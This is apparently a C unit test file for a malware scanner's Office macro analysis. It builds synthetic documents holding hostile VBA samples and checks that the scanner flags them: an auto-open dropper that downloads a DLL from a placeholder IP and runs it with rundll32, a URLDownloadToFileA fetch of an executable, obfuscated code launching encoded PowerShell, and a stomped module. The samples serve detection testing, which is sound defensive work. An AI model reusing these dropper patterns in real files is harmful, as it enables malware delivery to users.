/* VBA: projects in .doc/.xls/vbaProject.bin layouts, source analysis, static decoding, stomping. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static eg_report *scan_modules(eg_fx_vba_layout layout, const eg_fx_module *m, size_t n,
                               uint16_t cp, const char *name)
{
    uint8_t *doc;
    size_t len;
    assert_int_equal(eg_fx_vba_document(layout, m, n, cp, NULL, 0, &doc, &len), EG_OK);
    eg_report *r = eg_fx_scan(name, doc, len, NULL, 0);
    free(doc);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static const char DROPPER[] = "Attribute VB_Name = \"ThisDocument\"\r\n"
                              "Private Sub Document_Open()\r\n"
                              "  Dim u As String\r\n"
                              "  u = \"ht\" & \"tp://198.51.100.7/\" & Chr(120) & \".dll\"\r\n"
                              "  Set w = CreateObject(\"WScript.Shell\")\r\n"
                              "  w.Run \"rundll32.exe \" & u, 0\r\n"
                              "End Sub\r\n";

static void test_doc_dropper_malicious(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"ThisDocument", DROPPER, true, NULL}};
    eg_report *r = scan_modules(EG_FX_VBA_DOC, m, 1, 1252, "invoice.doc");
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC"));
    assert_true(eg_report_has_rule(r, "VBA.EXECUTION"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_true(eg_fx_has_type(r, EG_T_VBA_SOURCE));
    /* the source child is the exact module text; the decoded URL is seen */
    assert_non_null(strstr(eg_fx_captured(EG_T_VBA_SOURCE), "Private Sub Document_Open()"));
    assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), "http://198.51.100.7/x.dll"));
    bool ioc = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        if (strstr(eg_report_ioc(r, i)->value, "198.51.100.7"))
            ioc = true;
    assert_true(ioc);
    eg_report_free(r);
}

/* auto-exec in one module and the download in another: the project combines them */
static void test_xls_cross_module(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"ThisWorkbook",
                         "Attribute VB_Name = \"ThisWorkbook\"\r\nSub Workbook_Open()\r\n  "
                         "Module1.Go\r\nEnd Sub\r\n",
                         true, NULL},
                        {"Module1",
                         "Attribute VB_Name = \"Module1\"\r\nPrivate Declare PtrSafe Function "
                         "URLDownloadToFileA Lib \"urlmon\" _\r\n"
                         "  (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As "
                         "Long, ByVal e As Long) As Long\r\n"
                         "Sub Go()\r\n  URLDownloadToFileA 0, \"http://example.invalid/a.bin\", "
                         "\"C:\\Users\\Public\\a.exe\", 0, 0\r\nEnd Sub\r\n",
                         false, NULL}};
    eg_report *r = scan_modules(EG_FX_VBA_XLS, m, 2, 1252, "book.xls");
    assert_true(eg_report_has_rule(r, "VBA.DOWNLOAD"));
    assert_true(eg_report_has_rule(r, "VBA.DECLARE_LIB"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

/* a harmless macro: no auto-exec, nothing run or fetched */
static void test_benign_macro_not_malicious(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"Module1",
                         "Attribute VB_Name = \"Module1\"\r\nSub FormatTable()\r\n  ' Shell is "
                         "only a word in a comment\r\n"
                         "  Selection.Font.Bold = True\r\n  MsgBox \"done\"\r\nEnd Sub\r\n",
                         false, NULL}};
    eg_report *r = scan_modules(EG_FX_VBA_DOC, m, 1, 1252, "report.doc");
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
    assert_false(eg_report_has_rule(r, "VBA.AUTOEXEC"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

/* a bare vbaProject.bin (VBA storage at the root) in CP932 with a Japanese module */
static void test_vbaproject_bin_cp932(void **state)
{
    (void)state;
    static const char src[] = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  MsgBox "
                              "\"\x83\x65\x83\x58\x83\x67\"\r\n"
                              "  Shell \"powershell -w hidden -c calc\"\r\nEnd Sub\r\n";
    eg_fx_module m[] = {{"Module1", src, false, NULL}};
    uint8_t *bin;
    size_t len;
    assert_int_equal(eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 932, NULL, 0, &bin, &len), EG_OK);
    eg_report *r = eg_fx_scan("vbaProject.bin", bin, len, NULL, 0);
    free(bin);
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_non_null(strstr(eg_fx_captured(EG_T_VBA_SOURCE), "MsgBox \"テスト\""));
    eg_report_free(r);
}

static void test_stomping(void **state)
{
    (void)state;
    /* compiled code mentions a URL, the source is a harmless decoy */
    eg_fx_module m[] = {{"Module1", "Attribute VB_Name = \"Module1\"\r\nSub Hello()\r\nEnd Sub\r\n",
                         false, "\x01\x02pcode\x00http://203.0.113.9/payload.exe\x00\x03"},
                        {"Module2", NULL, false, "\x01\x02\x03\x04 compiled only"}};
    /* strlen() stops at the first NUL: use a pcode without NULs */
    m[0].pcode = "\x01\x02pcode http://203.0.113.9/payload.exe \x03";
    eg_report *r = scan_modules(EG_FX_VBA_DOC, m, 2, 1252, "s.doc");
    assert_true(eg_report_has_rule(r, "VBA.STOMPING"));
    eg_report_free(r);

    eg_fx_module ok[] = {{"Module1",
                          "Attribute VB_Name = \"Module1\"\r\nSub Hello()\r\nEnd Sub\r\n", false,
                          "\x01\x02pcode"}};
    r = scan_modules(EG_FX_VBA_DOC, ok, 1, 1252, "ok.doc");
    assert_false(eg_report_has_rule(r, "VBA.STOMPING"));
    eg_report_free(r);
}

static void test_obfuscation_and_decoding(void **state)
{
    (void)state;
    static const char src[] =
        "Attribute VB_Name = \"Module1\"\r\n"
        "Sub AutoOpen()\r\n"
        "  a = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & "
        "Chr(101) & Chr(108) & Chr(108)\r\n"
        "  b = StrReverse(\"exe.dmc\")\r\n"
        "  c = Replace(\"cXXmd /c XXstart\", \"XX\", \"\")\r\n"
        "  CreateObject(\"Wscript.Shell\").Run a & \" -enc ZQBjAGgAbwAgAGgAaQA=\"\r\n"
        "End Sub\r\n";
    eg_fx_module m[] = {{"Module1", src, false, NULL}};
    eg_report *r = scan_modules(EG_FX_VBA_DOC, m, 1, 1252, "o.doc");
    assert_true(eg_report_has_rule(r, "VBA.OBFUSCATION"));
    assert_true(eg_report_has_rule(r, "VBA.DECODED_STRING"));
    const char *dec = eg_fx_captured(EG_T_TEXT);
    assert_non_null(strstr(dec, "powershell\n"));
    assert_non_null(strstr(dec, "cmd.exe\n"));
    assert_non_null(strstr(dec, "cmd /c start\n"));
    assert_non_null(strstr(dec, "powershell -enc ZQBjAGgAbwAgAGgAaQA="));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

static void test_decoder_unit(void **state)
{
    (void)state;
    eg_buf out;
    eg_buf_init(&out, 0);
    const char *src = "x = \"ab\" + \"cd\" & ChrW(&H41)\r\n"
                      "y = x & LCase(\"EF\")\r\n"
                      "z = UnknownFunc(x) & \"q\"\r\n"
                      "MsgBox \"he\" & \"llo\" & Chr(33)\r\n"
                      "s = \"single\"\r\n";
    size_t n = eg_vba_decode_strings(src, strlen(src), &out);
    assert_int_equal(n, 3);
    assert_string_equal((char *)out.data, "abcdA\nabcdAef\nhello!\n");
    eg_buf_free(&out);
}

/* The dropper's vbaProject.bin wrapped as an ActiveMime blob (editdata.mso) and its Base64. */
static char *dropper_activemime(uint8_t **am, size_t *alen)
{
    eg_fx_module m[] = {{"ThisDocument", DROPPER, true, NULL}};
    uint8_t *bin;
    size_t blen;
    eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &blen);
    assert_int_equal(eg_fx_activemime(bin, blen, am, alen), EG_OK);
    free(bin);
    return eg_fx_base64(*am, *alen);
}

/* Word 2003 XML with the project in <w:binData w:name="editdata.mso"> (and the bare blob, as an
 * MHT part arrives) */
static void test_word2003_xml_activemime(void **state)
{
    (void)state;
    uint8_t *am;
    size_t alen;
    char *b64 = dropper_activemime(&am, &alen);
    eg_buf x;
    eg_buf_init(&x, 0);
    eg_buf_puts(&x,
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<?mso-application "
                "progid=\"Word.Document\"?>\n"
                "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"
                "<w:docSuppData><w:binData w:name=\"editdata.mso\">");
    for (size_t i = 0, n = strlen(b64); i < n; i += 76)
        eg_buf_printf(&x, "%.76s\n", b64 + i);
    eg_buf_puts(&x, "</w:binData></w:docSuppData><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></"
                    "w:body></w:wordDocument>");
    eg_report *r = eg_fx_scan("doc.xml", x.data, x.len, NULL, 0);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    r = eg_fx_scan("editdata.mso", am, alen, NULL, 0);
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    eg_report_free(r);
    eg_buf_free(&x);
    free(b64);
    free(am);
}

/* A whole MHT document ("single file web page" saved as .doc): a MIME multipart/related file whose
 * editdata.mso part carries the VBA project as an ActiveMime blob. */
static void test_mht_document(void **state)
{
    (void)state;
    uint8_t *am;
    size_t alen;
    char *b64 = dropper_activemime(&am, &alen);
    eg_buf x;
    eg_buf_init(&x, 0);
    eg_buf_puts(&x,
                "MIME-Version: 1.0\r\n"
                "Content-Type: multipart/related; boundary=\"----=_NextPart_01D8\"\r\n\r\n"
                "This document is a Single File Web Page, also known as a Web Archive file.\r\n\r\n"
                "------=_NextPart_01D8\r\n"
                "Content-Location: file:///C:/D2F1/report.htm\r\n"
                "Content-Transfer-Encoding: quoted-printable\r\n"
                "Content-Type: text/html; charset=\"us-ascii\"\r\n\r\n"
                "<html xmlns:o=3D\"urn:schemas-microsoft-com:office:office\"><head>\r\n"
                "<link rel=3DEdit-Time-Data href=3D\"report_files/editdata.mso\"></head>\r\n"
                "<body><p>Invoice</p></body></html>\r\n\r\n"
                "------=_NextPart_01D8\r\n"
                "Content-Location: file:///C:/D2F1/report_files/editdata.mso\r\n"
                "Content-Transfer-Encoding: base64\r\n"
                "Content-Type: application/x-mso\r\n\r\n");
    for (size_t i = 0, n = strlen(b64); i < n; i += 76)
        eg_buf_printf(&x, "%.76s\r\n", b64 + i);
    eg_buf_puts(&x, "\r\n------=_NextPart_01D8--\r\n");
    eg_report *r = eg_fx_scan("report.doc", x.data, x.len, NULL, 0);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    eg_buf_free(&x);
    free(b64);
    free(am);
}

/* Lines of a 2040-term concatenation that fails at its end: the decoder walks a bounded number of
 * tokens per line (each term once started a new parse, quadratic in the line), and a decodable
 * line after them is still decoded. */
static void test_decoder_failing_chains(void **state)
{
    (void)state;
    eg_buf src, out;
    eg_buf_init(&src, 0);
    eg_buf_init(&out, 0);
    eg_buf_puts(&src, "v = \"abcdefghabcdefghabcdefghabcdefgh\"\n");
    for (int l = 0; l < 300; l++) {
        for (int t = 0; t < 2040; t++)
            eg_buf_puts(&src, "v&");
        eg_buf_puts(&src, ")\n");
    }
    eg_buf_puts(&src, "u = \"cal\" & Chr(99) & \".exe\"\n");
    eg_vba_decode_strings((const char *)src.data, src.len, &out);
    assert_non_null(out.data);
    assert_non_null(strstr((const char *)out.data, "calc.exe\n"));
    eg_buf_free(&src);
    eg_buf_free(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_doc_dropper_malicious),
        cmocka_unit_test(test_xls_cross_module),
        cmocka_unit_test(test_benign_macro_not_malicious),
        cmocka_unit_test(test_vbaproject_bin_cp932),
        cmocka_unit_test(test_stomping),
        cmocka_unit_test(test_obfuscation_and_decoding),
        cmocka_unit_test(test_decoder_unit),
        cmocka_unit_test(test_decoder_failing_chains),
        cmocka_unit_test(test_word2003_xml_activemime),
        cmocka_unit_test(test_mht_document),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
